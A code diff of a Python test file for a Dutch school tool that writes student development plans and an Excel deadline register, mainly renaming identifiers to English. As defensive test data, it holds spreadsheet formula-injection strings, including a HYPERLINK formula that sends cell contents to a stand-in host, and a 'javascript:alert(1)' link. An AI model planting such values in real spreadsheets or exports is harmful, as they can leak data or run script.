@@ -12,13 +12,14 @@ import pytest
 from click.testing import CliRunner
 from openpyxl import Workbook, load_workbook
 
-from generator import register, rules
 from generator.cli import main
+from generator.rules import opp_rules
+from generator.write import register
 
 from .conftest import LEERLING_KOPPEN, docx_text, leerling, make_workbook
 
 VANDAAG = date.today()  # the CLI judges deadlines against today
-KOPPEN = LEERLING_KOPPEN + ["Datum vaststelling", "Startdatum OPP", "Einddatum OPP", "Aanleiding OPP"]
+HEADERS = LEERLING_KOPPEN + ["Datum vaststelling", "Startdatum OPP", "Einddatum OPP", "Aanleiding OPP"]
 
 
 def _run(book: Path, uit: Path):
@@ -26,7 +27,7 @@ def _run(book: Path, uit: Path):
                                      "2026-2027", "--werkers", "1"], catch_exceptions=False)
 
 
-def _rij(nr, roepnaam, achternaam, klas, inschrijving, vastgesteld=None, start=None, eind=None,
+def _write_row(nr, roepnaam, achternaam, klas, inschrijving, vastgesteld=None, start=None, eind=None,
          mentor="mw. Test", aanleiding=""):
     return leerling(nr, roepnaam, achternaam, klas, mentor=mentor, inschrijving=inschrijving) + [
         vastgesteld, start, eind, aanleiding]
@@ -34,7 +35,7 @@ def _rij(nr, roepnaam, achternaam, klas, inschrijving, vastgesteld=None, start=N
 
 def _export(tmp_path: Path, *rows) -> Path:
     return make_workbook(tmp_path / "export.xlsx", {
-        "Leerlingen": [KOPPEN, *rows],
+        "Leerlingen": [HEADERS, *rows],
         "Documenten": [["Stamnummer", "Soort", "Titel", "Datum", "Vindplaats"],
                        ["1", "IOP", "IOP lezen", date(2026, 6, 1), "https://lvs.example.nl/iop/1"],
                        ["1", "Verslag", "Verslag", date(2026, 6, 2), "javascript:alert(1)"]],
@@ -51,10 +52,10 @@ def _sheet(path: Path, name: str) -> list[dict]:
 def _standard(tmp_path: Path) -> Path:
     return _export(
         tmp_path,
-        _rij("1", "Late", "Leerling", "1A", VANDAAG - timedelta(days=50), aanleiding="Dreigende afstroom"),
-        _rij("2", "Bijna", "Leerling", "1B", VANDAAG - timedelta(days=35), mentor="-de Boer"),
-        _rij("3", "Ruim", "Leerling", "2A", VANDAAG, mentor="@mentor"),
-        _rij("4", "Klaar", "Leerling", "2A", VANDAAG - timedelta(days=50),
+        _write_row("1", "Late", "Leerling", "1A", VANDAAG - timedelta(days=50), aanleiding="Dreigende afstroom"),
+        _write_row("2", "Bijna", "Leerling", "1B", VANDAAG - timedelta(days=35), mentor="-de Boer"),
+        _write_row("3", "Ruim", "Leerling", "2A", VANDAAG, mentor="@mentor"),
+        _write_row("4", "Klaar", "Leerling", "2A", VANDAAG - timedelta(days=50),
              vastgesteld=VANDAAG - timedelta(days=9), start=date(2026, 9, 1), eind=date(2027, 7, 31),
              mentor="+31 6 1234"))
 
@@ -63,12 +64,12 @@ def test_register_has_one_row_per_generated_opp_with_its_link_and_dates(tmp_path
     uit = tmp_path / "uit"
     result = _run(_standard(tmp_path), uit)
     assert result.exit_code == 0, result.output
-    basis = uit / "2026-2027"
-    rows = {r["Leerlingnummer"].value: r for r in _sheet(basis / "overzicht.xlsx", "OPP's")}
-    files = sorted(p.relative_to(basis).as_posix() for p in basis.rglob("OPP_*.docx"))
+    base = uit / "2026-2027"
+    rows = {r["Leerlingnummer"].value: r for r in _sheet(base / "overzicht.xlsx", "OPP's")}
+    files = sorted(p.relative_to(base).as_posix() for p in base.rglob("OPP_*.docx"))
     assert sorted(r["OPP"].value for r in rows.values()) == files
     for nr, row in rows.items():
-        target = basis / unquote(row["OPP"].hyperlink.target)
+        target = base / unquote(row["OPP"].hyperlink.target)
         assert target.is_file() and target.name == f"OPP_{nr}.docx"
         assert f"{row['Naam'].value}" in docx_text(target, "word/header1.xml") or \
             row["Naam"].value in docx_text(target)
@@ -81,7 +82,7 @@ def test_register_has_one_row_per_generated_opp_with_its_link_and_dates(tmp_path
     assert late["Volgende evaluatie"].value.date() == _een_jaar_min_dag(VANDAAG - timedelta(days=8))
     assert late["Gekoppelde documenten"].value == 1 and late["Waarschuwingen"].value == 1  # javascript:
     assert late["Uiterste vaststelling"].number_format == "DD-MM-YYYY"
-    assert f"overzicht met termijnen in {basis / 'overzicht.xlsx'}" in result.output
+    assert f"overzicht met termijnen in {base / 'overzicht.xlsx'}" in result.output
 
 
 def _een_jaar_min_dag(d: date) -> date:
@@ -132,9 +133,9 @@ def test_text_that_looks_like_a_formula_is_written_as_text(tmp_path):
 
 
 def test_equals_sign_and_control_characters_never_become_a_formula(tmp_path):
-    rij = register.Rij("=1+1", naam='=HYPERLINK("https://x.example/?"&A1,"klik")', klas="\t=2",
+    row = register.RegisterRow("=1+1", naam='=HYPERLINK("https://x.example/?"&A1,"klik")', klas="\t=2",
                        mentor="a\x01b", bestand="1A/OPP_1.docx")
-    path = register.schrijf(tmp_path, [rij], date(2026, 10, 1))
+    path = register.write(tmp_path, [row], date(2026, 10, 1))
     with zipfile.ZipFile(path) as zf:
         sheet = zf.read("xl/worksheets/sheet1.xml")
     assert b"<f>" not in sheet
@@ -146,25 +147,25 @@ def test_equals_sign_and_control_characters_never_become_a_formula(tmp_path):
 
 def test_rerun_keeps_the_register_in_step_with_the_files(tmp_path):
     uit = tmp_path / "uit"
-    basis = uit / "2026-2027"
+    base = uit / "2026-2027"
     _run(_standard(tmp_path), uit)
     # second run: student 3 left the export, student 2's file was deleted by hand
-    (basis / "1B/OPP_2.docx").unlink()
-    book = _export(tmp_path, _rij("1", "Late", "Leerling", "1A", VANDAAG - timedelta(days=50),
+    (base / "1B/OPP_2.docx").unlink()
+    book = _export(tmp_path, _write_row("1", "Late", "Leerling", "1A", VANDAAG - timedelta(days=50),
                                   aanleiding="Dreigende afstroom"),
-                   _rij("4", "Klaar", "Leerling", "2A", VANDAAG - timedelta(days=50),
+                   _write_row("4", "Klaar", "Leerling", "2A", VANDAAG - timedelta(days=50),
                         vastgesteld=VANDAAG - timedelta(days=9), start=date(2026, 9, 1),
                         eind=date(2027, 8, 31), mentor="+31 6 1234"))  # 4's data changed
     result = _run(book, uit)
     assert result.exit_code == 0, result.output
-    rows = {r["Leerlingnummer"].value: r for r in _sheet(basis / "overzicht.xlsx", "OPP's")}
+    rows = {r["Leerlingnummer"].value: r for r in _sheet(base / "overzicht.xlsx", "OPP's")}
     assert set(rows) == {"1", "3", "4"}  # 2: file gone; 3: file still there, kept from the last register
-    assert rows["3"]["Status"].value == register.NIET_IN_RUN
+    assert rows["3"]["Status"].value == register.NOT_IN_RUN
     assert rows["3"]["Naam"].value == "Ruim Leerling" and rows["3"]["Mentor"].value == "@mentor"
     assert rows["3"]["Uiterste vaststelling"].value.date() == VANDAAG + timedelta(days=42)
     assert rows["1"]["Status"].value == "ongewijzigd"
     assert rows["4"]["Status"].value != "nieuw" and rows["4"]["Einddatum OPP"].value == datetime(2027, 8, 31)
-    files = sorted(p.relative_to(basis).as_posix() for p in basis.rglob("OPP_*.docx") if "(" not in p.name)
+    files = sorted(p.relative_to(base).as_posix() for p in base.rglob("OPP_*.docx") if "(" not in p.name)
     assert sorted(r["OPP"].value for r in rows.values()) == files  # side copies ('(vorige)') get no row
 
 
@@ -173,7 +174,7 @@ def test_an_opp_file_without_a_previous_register_gets_a_row_from_its_name(tmp_pa
     (tmp_path / "3K/OPP_020999.docx").write_bytes(b"ouder bestand")
     (tmp_path / "3K/~$P_020999.docx").write_bytes(b"Word lock file")
     (tmp_path / "3K/eigen aantekeningen.docx").write_bytes(b"not an OPP of ours")
-    path = register.schrijf(tmp_path, [], date(2026, 10, 1))
+    path = register.write(tmp_path, [], date(2026, 10, 1))
     rows = _sheet(path, "OPP's")
     assert [(r["Leerlingnummer"].value, r["Klas"].value, r["OPP"].value) for r in rows] == \
         [("020999", "3K", "3K/OPP_020999.docx")]
@@ -189,9 +190,9 @@ def test_a_register_that_cannot_be_written_costs_no_opp(tmp_path):
 
 
 def test_an_overdue_evaluation_of_a_set_plan_is_marked(tmp_path):
-    rij = register.Rij("5", vastgesteld=date(2025, 9, 1), uiterste_vaststelling=date(2025, 9, 15),
+    row = register.RegisterRow("5", vastgesteld=date(2025, 9, 1), uiterste_vaststelling=date(2025, 9, 15),
                        volgende_evaluatie=date(2026, 8, 31), bestand="1A/OPP_5.docx")
-    row = _sheet(register.schrijf(tmp_path, [rij], date(2026, 10, 1)), "OPP's")[0]
+    row = _sheet(register.write(tmp_path, [row], date(2026, 10, 1)), "OPP's")[0]
     assert row["Termijn"].value == "evaluatie verlopen"
     assert row["Volgende evaluatie"].fill.fgColor.rgb.endswith("FFC7CE")
 
@@ -199,18 +200,18 @@ def test_an_overdue_evaluation_of_a_set_plan_is_marked(tmp_path):
 @pytest.fixture(params=["in_memory", "constant_memory"])
 def modus(request, monkeypatch):
     """Both ways XlsxWriter builds the workbook: in memory (small registers) and streamed row by row
-    through a temporary file (large ones, from `_IN_GEHEUGEN_TOT` rows on)."""
+    through a temporary file (large ones, from `_IN_MEMORY_UP_TO` rows on)."""
     if request.param == "constant_memory":
-        monkeypatch.setattr(register, "_IN_GEHEUGEN_TOT", 0)
+        monkeypatch.setattr(register, "_IN_MEMORY_UP_TO", 0)
     return request.param
 
 
-def _rijen_van_elke_soort() -> list[register.Rij]:
+def _rijen_van_elke_soort() -> list[register.RegisterRow]:
     return [
-        register.Rij("020273", "Bram van den Berg", "2A", "@mentor", "Intake-OPP", "Afstroom; gedrag",
+        register.RegisterRow("020273", "Bram van den Berg", "2A", "@mentor", "Intake-OPP", "Afstroom; gedrag",
                      date(2026, 8, 24), date(2026, 10, 5), None, "", date(2027, 10, 4), None, None,
                      "wordt 18 tijdens het plan", "nieuw", 2, 1, "2A/OPP_020273.docx"),
-        register.Rij("=1+1", naam="_x0041_ en -min", klas="\t=2", mentor="  spaties  ", status="ongewijzigd",
+        register.RegisterRow("=1+1", naam="_x0041_ en -min", klas="\t=2", mentor="  spaties  ", status="ongewijzigd",
                      vastgesteld=date(2025, 9, 1), uiterste_vaststelling=date(2025, 9, 15),
                      volgende_evaluatie=date(2027, 8, 31), startdatum_opp=date(2025, 9, 1),
                      einddatum_opp=date(2026, 7, 31), bestand="1A/OPP_1 é ü#%.docx"),
@@ -218,42 +219,42 @@ def _rijen_van_elke_soort() -> list[register.Rij]:
 
 
 def test_the_previous_register_reads_back_as_written(tmp_path, modus):
-    rijen = _rijen_van_elke_soort()
-    for rij in rijen:
-        (tmp_path / rij.bestand).parent.mkdir(parents=True, exist_ok=True)
-        (tmp_path / rij.bestand).write_bytes(b"")
-    vandaag = date(2026, 10, 1)
-    path = register.schrijf(tmp_path, rijen, vandaag)
-    terug = register._vorige(path)
-    verwacht = {r.bestand: replace(r, termijn=rules.termijn(r.uiterste_vaststelling, r.vastgesteld, vandaag,
-                                                            r.volgende_evaluatie)) for r in rijen}
+    rows = _rijen_van_elke_soort()
+    for row in rows:
+        (tmp_path / row.bestand).parent.mkdir(parents=True, exist_ok=True)
+        (tmp_path / row.bestand).write_bytes(b"")
+    today = date(2026, 10, 1)
+    path = register.write(tmp_path, rows, today)
+    terug = register._previous_rows(path)
+    verwacht = {r.bestand: replace(r, termijn=opp_rules.termijn(r.uiterste_vaststelling, r.vastgesteld, today,
+                                                            r.volgende_evaluatie)) for r in rows}
     assert terug == verwacht
     # a second run without these students keeps their rows from this register, text unchanged
-    register.schrijf(tmp_path, [], vandaag)
-    assert {b: replace(r, status="") for b, r in register._vorige(path).items()} == \
+    register.write(tmp_path, [], today)
+    assert {b: replace(r, status="") for b, r in register._previous_rows(path).items()} == \
         {b: replace(r, status="") for b, r in verwacht.items()}
-    assert {r.status for r in register._vorige(path).values()} == {register.NIET_IN_RUN}
+    assert {r.status for r in register._previous_rows(path).values()} == {register.NOT_IN_RUN}
 
 
 def test_both_ways_of_writing_give_the_same_register(tmp_path, modus):
-    rijen = _rijen_van_elke_soort()
-    path = register.schrijf(tmp_path, rijen, date(2026, 10, 1))
+    rows = _rijen_van_elke_soort()
+    path = register.write(tmp_path, rows, date(2026, 10, 1))
     wb = load_workbook(path)
     assert wb.sheetnames == ["OPP's", "DUO"]
     ws = wb["OPP's"]
     assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:R3"
     assert [ws.column_dimensions[c].width for c in "AGR"] == [16, 17, 12]
     rows = {r["Leerlingnummer"].value: r for r in _sheet(path, "OPP's")}
-    bram, formule = rows["020273"], rows["=1+1"]
+    bram, formula = rows["020273"], rows["=1+1"]
     assert bram["Uiterste vaststelling"].value == datetime(2026, 10, 5)
     assert bram["Uiterste vaststelling"].number_format == "DD-MM-YYYY"
     assert bram["Gekoppelde documenten"].value == 2 and bram["Gekoppelde documenten"].data_type == "n"
     assert bram["Termijn"].value == "binnen 2 weken"
     assert bram["Vastgesteld op"].fill.fgColor.rgb.endswith("FFEB9C")  # empty cells are coloured too
-    assert unquote(formule["OPP"].hyperlink.target) == "1A/OPP_1 é ü#%.docx"
-    assert formule["OPP"].value == "1A/OPP_1 é ü#%.docx"
-    assert formule["Klas"].value == "\t=2" and formule["Klas"].quotePrefix
-    assert formule["Termijn"].value is None and formule["Naam"].fill.fill_type is None
+    assert unquote(formula["OPP"].hyperlink.target) == "1A/OPP_1 é ü#%.docx"
+    assert formula["OPP"].value == "1A/OPP_1 é ü#%.docx"
+    assert formula["Klas"].value == "\t=2" and formula["Klas"].quotePrefix
+    assert formula["Termijn"].value is None and formula["Naam"].fill.fill_type is None
     with zipfile.ZipFile(path) as zf:
         assert all(b"<f>" not in zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/"))
 
@@ -268,8 +269,8 @@ def test_a_register_saved_by_excel_or_an_older_version_is_read(tmp_path):
     ws.append([20273, "Bram", "notitie", datetime(2026, 10, 5), 2.0, 2, "2A/OPP_020273.docx", "onbekend"])
     ws["D2"].number_format = "DD-MM-YYYY"
     ws.append([None, "zonder nummer", None, None, None, None, "2A/OPP_x.docx"])
-    wb.save(tmp_path / register.NAAM)
-    assert register._vorige(tmp_path / register.NAAM) == {"2A/OPP_020273.docx": register.Rij(
+    wb.save(tmp_path / register.FILE_NAME)
+    assert register._previous_rows(tmp_path / register.FILE_NAME) == {"2A/OPP_020273.docx": register.RegisterRow(
         "20273", "Bram", "2", uiterste_vaststelling=date(2026, 10, 5), documenten=2,
         bestand="2A/OPP_020273.docx")}
 
@@ -277,32 +278,32 @@ def test_a_register_saved_by_excel_or_an_older_version_is_read(tmp_path):
 def test_an_unreadable_previous_register_is_rebuilt_from_the_files(tmp_path, caplog):
     (tmp_path / "3K").mkdir()
     (tmp_path / "3K/OPP_020999.docx").write_bytes(b"")
-    (tmp_path / register.NAAM).write_bytes(b"geen xlsx")
-    rows = _sheet(register.schrijf(tmp_path, [], date(2026, 10, 1)), "OPP's")
+    (tmp_path / register.FILE_NAME).write_bytes(b"geen xlsx")
+    rows = _sheet(register.write(tmp_path, [], date(2026, 10, 1)), "OPP's")
     assert [(r["Leerlingnummer"].value, r["Status"].value) for r in rows] == \
-        [("020999", register.NIET_IN_RUN)]
+        [("020999", register.NOT_IN_RUN)]
     assert "vorig overzicht niet leesbaar" in caplog.text
 
 
 def test_the_previous_register_is_read_only_when_a_file_has_no_row(tmp_path, monkeypatch):
     """A re-run on the same export lists every file already: reading the old register is skipped."""
-    rij = register.Rij("5", bestand="1A/OPP_5.docx")
+    row = register.RegisterRow("5", bestand="1A/OPP_5.docx")
     (tmp_path / "1A").mkdir()
     (tmp_path / "1A/OPP_5.docx").write_bytes(b"")
-    register.schrijf(tmp_path, [rij], date(2026, 10, 1))
+    register.write(tmp_path, [row], date(2026, 10, 1))
     gelezen = []
-    monkeypatch.setattr(register, "_vorige", lambda pad: gelezen.append(pad) or {})
-    register.schrijf(tmp_path, [rij], date(2026, 10, 1))
+    monkeypatch.setattr(register, "_previous_rows", lambda pad: gelezen.append(pad) or {})
+    register.write(tmp_path, [row], date(2026, 10, 1))
     assert gelezen == []
-    register.schrijf(tmp_path, [], date(2026, 10, 1))
-    assert gelezen == [tmp_path / register.NAAM]
+    register.write(tmp_path, [], date(2026, 10, 1))
+    assert gelezen == [tmp_path / register.FILE_NAME]
 
 
 def test_cleaned_text_from_the_export_is_written(tmp_path):
     """The reader marks text it had to clean with a str subclass (convert.Opgeschoond)."""
-    from generator.convert import Opgeschoond
-    rij = register.Rij("7", naam=Opgeschoond("Aisha El Idrissi"), mentor=Opgeschoond("=mw. X\x01"),
+    from generator.read.convert import Cleaned
+    row = register.RegisterRow("7", naam=Cleaned("Aisha El Idrissi"), mentor=Cleaned("=mw. X\x01"),
                        bestand="1A/OPP_7.docx")
-    row = _sheet(register.schrijf(tmp_path, [rij], date(2026, 10, 1)), "OPP's")[0]
+    row = _sheet(register.write(tmp_path, [row], date(2026, 10, 1)), "OPP's")[0]
     assert row["Naam"].value == "Aisha El Idrissi"
     assert row["Mentor"].value == "=mw. X\ufffd" and row["Mentor"].quotePrefix
